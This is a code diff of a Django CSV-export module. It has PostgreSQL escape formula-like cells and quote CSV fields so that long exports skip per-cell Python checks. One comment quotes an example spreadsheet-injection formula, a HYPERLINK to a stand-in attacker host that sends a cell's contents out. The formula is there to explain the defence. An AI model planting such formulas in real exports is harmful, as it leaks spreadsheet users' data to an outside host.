@@ -12,10 +12,9 @@ from decimal import Decimal
 from itertools import islice
 
 from django.db import models
-from django.db.models import Case, F, QuerySet, TextField, Value, When
+from django.db.models import Expression, F, Func, QuerySet, TextField, Value
 from django.db.models.constants import LOOKUP_SEP
-from django.db.models.functions import Cast, Concat, Left
-from django.db.models.lookups import In
+from django.db.models.functions import Cast
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -48,57 +47,110 @@ def spreadsheet_cell(value) -> object:
 # Expressions whose every value a spreadsheet reads as written, made so by PostgreSQL:
 # ``sql_rows`` accepts a queryset whose columns are all of these (or whole numbers).
 _SAFE = "spreadsheet_safe"
+# ... of those, the ones whose text never holds a comma, a double quote or a line break,
+# which a CSV line writes as they are (see ``_csv_line_rows``) ...
+_PLAIN = "csv_plain"
+# ... and, for the others, the column whose text decides whether the cell needs quotes,
+# when that is cheaper to test than the cell (a formula's apostrophe never does).
+_QUOTES_DECIDED_BY = "csv_quotes_decided_by"
+
+# The csv module's rule (QUOTE_MINIMAL, the default dialect): a cell holding the
+# delimiter, the quote character or a line break is written in double quotes, with its
+# double quotes doubled. ``sql_rows`` has PostgreSQL apply the same rule.
+_NEEDS_QUOTES = ',"\r\n'
 
 
-def _safe(expression):
-    setattr(expression, _SAFE, True)  # kept by the copies Django makes as it resolves
+def _safe(expression, *, plain: bool = False, quotes_decided_by: str | None = None):
+    # Attributes are kept by the copies Django makes as it resolves the expression.
+    setattr(expression, _SAFE, True)
+    setattr(expression, _PLAIN, plain)
+    setattr(expression, _QUOTES_DECIDED_BY, quotes_decided_by)
     return expression
+
+
+def _plain(text: str) -> bool:
+    return not any(character in text for character in _NEEDS_QUOTES)
 
 
 def as_text(field: str) -> Cast:
     """A date or amount column as PostgreSQL writes it (2026-04-01, 12.50), for a long
     export: read as text, it needs no date or Decimal made and written back per cell.
     Only for columns that cannot start a formula (dates, amounts never below zero)."""
-    return _safe(Cast(field, output_field=TextField()))
+    return _safe(Cast(field, output_field=TextField()), plain=True)
 
 
-def safe_text(field: str) -> Case:
+# The formula starts as character codes: PostgreSQL's ascii() of a text's first
+# character is an integer compared without making a one-letter text per cell.
+_FORMULA_CODES = ", ".join(str(ord(start)) for start in FORMULA_STARTS)
+
+
+# safe_text and choice_label write their SQL themselves: as Case and When (a filter built
+# for each choice, the column compiled for each branch) they cost an export more Python
+# than PostgreSQL spends on them.
+class _SafeText(Func):
+    output_field = TextField()
+
+    def as_sql(self, compiler, connection, **extra_context):
+        sql, params = compiler.compile(self.source_expressions[0])
+        return (
+            f"CASE WHEN ASCII({sql}) IN ({_FORMULA_CODES}) THEN '''' || ({sql}) ELSE ({sql}) END",
+            [*params, *params, *params],
+        )
+
+
+class _Label(Func):
+    output_field = TextField()
+
+    def __init__(self, field: str, labels: dict[str, str]):
+        super().__init__(F(field))
+        self.labels = labels
+
+    def as_sql(self, compiler, connection, **extra_context):
+        sql, params = compiler.compile(self.source_expressions[0])
+        whens = " ".join("WHEN %s THEN %s" for _ in self.labels)
+        pairs = [text for pair in self.labels.items() for text in pair]
+        return f"CASE ({sql}) {whens} ELSE ({sql}) END", [*params, *pairs, *params]
+
+
+def safe_text(field: str) -> _SafeText:
     """A text column with the formula rule applied by PostgreSQL (a leading apostrophe
     where the text starts like a formula), so a long export checks no cell in Python."""
-    return _safe(
-        Case(
-            When(In(Left(field, 1), FORMULA_STARTS),
-                 then=Concat(Value("'"), F(field), output_field=TextField())),
-            default=F(field),
-            output_field=TextField(),
-        )
-    )  # fmt: skip
+    return _safe(_SafeText(F(field)), quotes_decided_by=field)
 
 
-def choice_label(field: str, choices) -> Case:
-    """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL."""
-    labels = dict(choices)
-    if any(str(label).startswith(FORMULA_STARTS) for label in labels.values()):
+def choice_label(field: str, choices) -> _Label:
+    """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL;
+    a value that is not a choice as it is."""
+    labels = {str(value): str(label) for value, label in choices}
+    if not labels:
+        raise ValueError(f"{field} has no choices to label")
+    if any(label.startswith(FORMULA_STARTS) for label in labels.values()):
         raise ValueError(f"a label of {field} starts like a formula")
     return _safe(
-        Case(
-            *[When(**{field: value}, then=Value(str(label))) for value, label in labels.items()],
-            default=F(field),
-            output_field=TextField(),
-        )
+        _Label(field, labels),
+        plain=all(_plain(text) for pair in labels.items() for text in pair),
     )
 
 
-def trusted(expression):
+def fixed_text(text: str) -> Value:
+    """The same text in every row (a type, a status, an empty cell), checked here."""
+    if text.startswith(FORMULA_STARTS):
+        raise ValueError(f"{text!r} starts like a formula")
+    return _safe(Value(text, output_field=TextField()), plain=_plain(text))
+
+
+def trusted(expression, *, plain: bool = False):
     """An expression the caller knows yields only text that cannot start a formula (a
-    count written as text, a fixed label). Say why where it is used."""
-    return _safe(expression)
+    count written as text, a fixed label). Say why where it is used. ``plain`` when it
+    cannot hold a comma, a double quote or a line break either (digits), so a CSV line
+    writes it without that test."""
+    return _safe(expression, plain=plain)
 
 
 @dataclass(frozen=True)
 class SqlRows:
-    """A queryset of ``values_list`` rows that PostgreSQL has made spreadsheet-safe,
-    written to the CSV as they come (see ``sql_rows``)."""
+    """A queryset of ``values_list`` rows that PostgreSQL has made spreadsheet-safe, and
+    writes as CSV lines (see ``sql_rows`` and ``_CsvLine``)."""
 
     queryset: QuerySet
 
@@ -109,8 +161,9 @@ _PLAIN_SAFE = (models.IntegerField, models.AutoField)
 
 def sql_rows(queryset: QuerySet) -> SqlRows:
     """Mark a ``values_list`` queryset as safe to write unchecked, after checking that it
-    is: every column must be ``as_text``, ``safe_text``, ``choice_label`` or ``trusted``,
-    or a whole-number field. A text column taken straight from a model is refused."""
+    is: every column must be ``as_text``, ``safe_text``, ``choice_label``, ``fixed_text``
+    or ``trusted``, or a whole-number field. A text column taken straight from a model is
+    refused."""
     query = queryset.query
     for name, expression in query.annotation_select.items():
         if not getattr(expression, _SAFE, False):
@@ -122,6 +175,96 @@ def sql_rows(queryset: QuerySet) -> SqlRows:
     if query.extra_select:
         raise ValueError("CSV columns from extra() cannot be checked")
     return SqlRows(queryset)
+
+
+class _CsvLine(Expression):
+    """A row's cells as its CSV line, without the line ending, written by PostgreSQL:
+    each cell as text (a NULL as nothing, as the csv module writes None), joined by
+    commas. When the row's texts hold a comma, a double quote or a line break, each
+    cell that does is written in double quotes with its double quotes doubled.
+
+    Whether a row needs quotes is one test of its texts together: a test per cell was
+    most of the query's time, and few rows have a comma or a quote. Each cell is
+    compiled once and its SQL written where the line needs it: as Django expressions,
+    the two forms of the line cost more to resolve and compile than the query to run.
+    """
+
+    output_field = TextField()
+
+    def __init__(self, cells: list, tests: list):
+        super().__init__()
+        self.cells = cells  # resolved expressions
+        self.tests = tests  # for each cell, the resolved text to test, or None
+
+    def get_source_expressions(self):
+        return [*self.cells, *self.tests]
+
+    def set_source_expressions(self, exprs):
+        self.cells, self.tests = list(exprs[: len(self.cells)]), list(exprs[len(self.cells) :])
+
+    def resolve_expression(self, *args, **kwargs):
+        # Made of the queryset's own columns, resolved already (see _csv_line_rows).
+        return self.copy()
+
+    # Django compares a selected expression with the ORDER BY's by hashing both, which
+    # for an expression hashes every node below it: a line is only ever itself.
+    def __eq__(self, other):
+        return self is other
+
+    def __hash__(self):
+        return id(self)
+
+    def as_sql(self, compiler, connection):
+        plain, plain_params = [], []
+        quoted, quoted_params = [], []
+        texts, texts_params = [], []
+        pattern = f"[{_NEEDS_QUOTES}]"
+        for cell, test in zip(self.cells, self.tests, strict=True):
+            sql, params = compiler.compile(cell)
+            sql = f"({sql})::text"
+            plain.append(f"COALESCE({sql}, '')")
+            plain_params += params
+            if test is None:
+                quoted.append(plain[-1])
+                quoted_params += params
+                continue
+            test_sql, test_params = (sql, params) if test is cell else compiler.compile(test)
+            test_sql = f"({test_sql})::text"
+            texts.append(f"COALESCE({test_sql}, '')")
+            texts_params += test_params
+            quoted.append(
+                f"COALESCE(CASE WHEN {test_sql} ~ %s"
+                f""" THEN '"' || replace({sql}, '"', '""') || '"' ELSE {sql} END, '')"""
+            )
+            quoted_params += [*test_params, pattern, *params, *params]
+        comma = " || ',' || "
+        if not texts:
+            return comma.join(plain), plain_params
+        return (
+            f"CASE WHEN ({' || '.join(texts)}) ~ %s"
+            f" THEN {comma.join(quoted)} ELSE {comma.join(plain)} END",
+            [*texts_params, pattern, *quoted_params, *plain_params],
+        )
+
+
+def _csv_line_rows(queryset: QuerySet) -> tuple[QuerySet, int]:
+    """The ``sql_rows`` queryset as one text per row, its CSV line (``_CsvLine``), and
+    its number of columns. PostgreSQL joining the cells costs a few milliseconds a
+    year; the csv module writing them, and psycopg2 making a string of each, cost ten
+    times that."""
+    query = queryset.query
+    cells, tests = [], []
+    for name in queryset._fields:  # the columns in values_list's order
+        cell = query.resolve_ref(name)  # an annotation, or a whole number's column
+        cells.append(cell)
+        if name not in query.annotations or getattr(cell, _PLAIN, False):
+            tests.append(None)
+        elif decided_by := getattr(cell, _QUOTES_DECIDED_BY, None):
+            tests.append(query.resolve_ref(decided_by))
+        else:
+            tests.append(cell)
+    line = _CsvLine(cells, tests)
+    return queryset.annotate(csv_line=line).values_list("csv_line", flat=True), len(cells)
 
 
 class _Echo:
@@ -150,30 +293,39 @@ def csv_blocks(
     60,000 writes to the socket), while a block keeps memory as flat as a row.
 
     Each part is either rows made safe here, cell by cell, or ``sql_rows``, which
-    PostgreSQL made safe and which go to the writer as they come: a Python check per
-    cell was most of a long export's time."""
+    PostgreSQL made safe and wrote as CSV lines: a Python check per cell, then the csv
+    module's writing of each cell, was most of a long export's time."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     buffer.write(BOM)
     writer.writerow([spreadsheet_cell(value) for value in header])
+    head = buffer.getvalue()
+    buffer.seek(0)
+    buffer.truncate()
     for part in parts:
         if isinstance(part, SqlRows):
-            blocks = _sql_blocks(part.queryset, rows_per_block)
-        else:
-            blocks = _checked_blocks(part, rows_per_block)
-        for block in blocks:
+            for text in _sql_blocks(part.queryset, rows_per_block):
+                yield head + text
+                head = ""
+            continue
+        for block in _checked_blocks(part, rows_per_block):
             writer.writerows(block)
-            yield buffer.getvalue()
+            yield head + buffer.getvalue()
+            head = ""
             buffer.seek(0)
             buffer.truncate()
-    if buffer.tell():  # the header, when there are no rows
-        yield buffer.getvalue()
+    if head:  # the header, when there are no rows
+        yield head
 
 
-def _sql_blocks(queryset: QuerySet, size: int) -> Iterator[list]:
-    rows = queryset.iterator(chunk_size=max(size, 2000))
-    while block := list(islice(rows, size)):
-        yield block
+def _sql_blocks(queryset: QuerySet, size: int) -> Iterator[str]:
+    lines_query, columns = _csv_line_rows(queryset)
+    lines = lines_query.iterator(chunk_size=max(size, 2000))
+    while block := list(islice(lines, size)):
+        if columns == 1:  # the csv module writes a row of one empty cell as ""
+            block = [line or '""' for line in block]
+        block.append("")
+        yield "\r\n".join(block)
 
 
 def _checked_blocks(rows: Iterable[Iterable], size: int) -> Iterator[list]:
